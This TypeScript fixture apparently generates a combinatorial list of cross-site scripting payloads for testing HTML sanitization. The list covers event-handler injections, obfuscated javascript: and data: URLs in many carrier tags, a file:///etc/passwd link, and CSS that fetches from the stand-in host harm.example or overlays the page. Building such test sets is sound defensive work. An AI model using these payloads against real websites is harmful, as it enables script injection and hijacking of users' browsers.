/** What every hostile text tries: to call, to leave a mark, to fetch. Whoever runs one sees it. */
export const HARM = 'alert(harmed=1)'
/** Where they would fetch from. */
export const ELSEWHERE = 'http://harm.example'

/** Each of some put together with each of others. */
export const pairs = (
  left: readonly string[],
  right: readonly string[],
  join: (l: string, r: string) => string,
) => left.flatMap((l) => right.map((r) => join(l, r)))

const ELEMENTS = [
  'img src=x',
  'image src=x',
  'svg',
  'svg/',
  'math',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'select autofocus',
  'textarea autofocus',
  'iframe src=x',
  'embed src=x',
  'object data=x',
  'marquee',
  'p tabindex=1 id=x',
  'a href=#x tabindex=1',
  'strong',
  'style',
  'isindex type=image src=1',
]
const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'OnStart',
  'onanimationstart',
  'onclick',
  'on\nbegin',
]

/** Scripts that hang on an element's event, quoted in every way. */
const events = [
  ...pairs(ELEMENTS, EVENTS, (element, event) => `<${element} ${event}="${HARM}">x`),
  ...[`'${HARM}'`, HARM, `\`${HARM}\``, '&#97;lert(harmed=1)', `"${HARM}`].flatMap((value) => [
    `<img src=x onerror=${value}>`,
    `<p><img src=x onerror=${value} //>`,
    `<svg/onload=${value}>`,
    `<p/onclick=${value}>x</p>`,
  ]),
]

const ADDRESSES = [
  `javascript:${HARM}`,
  `JaVaScRiPt:${HARM}`,
  `java\tscript:${HARM}`,
  `java\nscript:${HARM}`,
  ` javascript:${HARM}`,
  `&#106;avascript:${HARM}`,
  `&#x6A;avascript:${HARM}`,
  `&#0000106avascript:${HARM}`,
  `javascript&colon;${HARM}`,
  `java&#09;script:${HARM}`,
  `jav&#x0A;ascript:${HARM}`,
  `java&NewLine;script:${HARM}`,
  `\u0001javascript:${HARM}`,
  `java\0script:${HARM}`,
  `&#8232;javascript:${HARM}`,
  `\u00a0javascript:${HARM}`,
  `javascript://%0a${HARM}`,
  `data:text/html,<script>${HARM}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `DATA:image/svg+xml,<svg onload=${HARM}>`,
  `vbscript:msgbox(1)`,
  `vb&Tab;script:msgbox(1)`,
  `feed:javascript:${HARM}`,
  `view-source:javascript:${HARM}`,
  'file:///etc/passwd',
  'blob:null/x',
  'ftp://harm.example/x',
  'intent:x#Intent;end',
  '//harm.example/x',
  '\\\\harm.example/x',
  '/\\harm.example/x',
  '\t//harm.example/x',
]
const CARRIERS: ((address: string) => string)[] = [
  (to) => `<a href="${to}">x</a>`,
  (to) => `<a href='${to}' href="${ELSEWHERE}">x</a>`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<form action="${to}"><button>x</button></form>`,
  (to) => `<button formaction="${to}" form=x>x</button>`,
  (to) => `<object data="${to}"></object>`,
  (to) => `<embed src="${to}">`,
  (to) => `<img src="${to}" srcset="${to} 2x" longdesc="${to}">`,
  (to) => `<svg><a xlink:href="${to}"><text y=20>x</text></a><use href="${to}"/></svg>`,
  (to) => `<math href="${to}"><mtext>x</mtext></math>`,
  (to) => `<base href="${to}"><a href=x>x</a>`,
  (to) => `<meta http-equiv="refresh" content="0;url=${to}">`,
  (to) => `<link rel="stylesheet" href="${to}">`,
  (to) => `<blockquote cite="${to}" background="${to}">x</blockquote>`,
]
/** Addresses that are programs, or lead elsewhere, wherever an address can be. */
const addresses = ADDRESSES.flatMap((to) => CARRIERS.map((carrier) => carrier(to)))

const STYLES = [
  `background:url(${ELSEWHERE}/a)`,
  `background-image:\\75rl(${ELSEWHERE}/b)`,
  `list-style:url(${ELSEWHERE}/c)`,
  `width:expression(${HARM})`,
  `behavior:url(${ELSEWHERE}/d)`,
  `-moz-binding:url(${ELSEWHERE}/e#x)`,
  'position:fixed;inset:0;z-index:9999',
  'animation-name:x',
  `--x:url(${ELSEWHERE}/f);background:var(--x)`,
  `text-align:left;background:url(${ELSEWHERE}/g)`,
  `text-align:center}*{background:url(${ELSEWHERE}/h)`,
  `text-align:url(${ELSEWHERE}/i)`,
  `text-align:left/**/;content:url(${ELSEWHERE}/j)`,
  'text-align:&quot;>x',
  `@import '${ELSEWHERE}/k'`,
  `&#98;ackground:url(${ELSEWHERE}/l)`,
  `cursor:image-set('${ELSEWHERE}/m' 1x)`,
]
const STYLED = [
  'p',
  'h1',
  'h6',
  'strong',
  'em',
  'a',
  'li',
  'ul',
  'blockquote',
  'pre',
  'mark',
  'hr',
  'div',
  'span',
]
/** Styles that fetch, run or cover the page. */
const styles = pairs(STYLED, STYLES, (tag, style) => `<${tag} style="${style}">x</${tag}>`)

/** Harm by the dozen: in events, addresses and styles, wherever there is one. */
export const hostilePatterns: readonly string[] = [...events, ...addresses, ...styles]
